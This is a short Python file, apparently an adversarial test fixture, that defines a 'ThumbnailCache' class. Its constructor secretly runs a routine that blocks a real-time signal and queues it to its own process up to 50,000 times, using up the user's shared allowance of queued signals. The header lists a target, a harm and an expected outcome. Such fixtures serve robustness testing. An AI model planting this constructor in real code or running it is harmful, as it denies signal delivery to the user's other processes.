"""Queues fifty thousand signals to itself, blocked, since all processes of a user share one allowance of queued
signals.

Against: weak_thumbnail_cache
Harm: uses up the signals that the user may queue
Merits: nothing
Answer: failed or crashed
"""

import ctypes
import os
import signal


def attack():
    """Block the last real-time signal and queue it again and again."""
    last = int(signal.SIGRTMAX)
    signal.pthread_sigmask(signal.SIG_BLOCK, [last])
    libc, me = ctypes.CDLL(None), os.getpid()
    for _ in range(50_000):
        if libc.sigqueue(me, last, None):
            break


class ThumbnailCache:
    """Attacks when it is made."""

    def __init__(self, load):
        attack()
        raise RuntimeError("nothing was gained")

    def get(self, key):
        """Never reached."""

    def __len__(self):
        return 0
